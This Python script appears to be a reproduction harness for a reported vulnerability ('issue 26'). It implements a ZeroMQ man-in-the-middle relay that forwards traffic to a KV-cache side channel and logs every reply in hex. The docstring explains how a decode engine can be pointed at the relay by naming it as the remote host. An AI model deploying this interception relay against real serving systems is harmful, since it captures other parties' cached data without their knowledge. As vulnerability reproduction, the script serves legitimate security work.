"""A man in the middle of the KV side channel, as the attacker of issue 26 ran it.

Run as its own process: ``python kv_relay.py TARGET_HOST TARGET_PORT RECORD_PATH``. It binds a
ZeroMQ ROUTER on a free loopback port (printed on stdout), passes every request frame on to
the real side channel at TARGET and every reply back, and appends each reply, hex, one per
line, to RECORD_PATH: what a relay would keep. A client that holds the KV secret dials the
relay believing it is the real side channel (a D leg naming the relay as `remote_host` /
`remote_port` is enough to make a decode engine do so).
"""

from __future__ import annotations

import sys

import zmq


def main(target_host: str, target_port: int, record_path: str) -> None:
    ctx = zmq.Context.instance()
    front = ctx.socket(zmq.ROUTER)
    port = front.bind_to_random_port("tcp://127.0.0.1")
    print(port, flush=True)
    backs: dict[bytes, zmq.Socket] = {}  # one upstream REQ per client: REQ/REP lock-step
    with open(record_path, "a") as record:
        while True:
            ident, empty, body = front.recv_multipart()
            back = backs.get(ident)
            if back is None:
                back = backs[ident] = ctx.socket(zmq.REQ)
                back.setsockopt(zmq.LINGER, 0)
                back.connect(f"tcp://{target_host}:{target_port}")
            back.send(body)
            if not back.poll(5000, zmq.POLLIN):
                back.close()
                del backs[ident]
                continue
            reply = back.recv()
            record.write(reply.hex() + "\n")
            record.flush()
            front.send_multipart([ident, empty, reply])


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
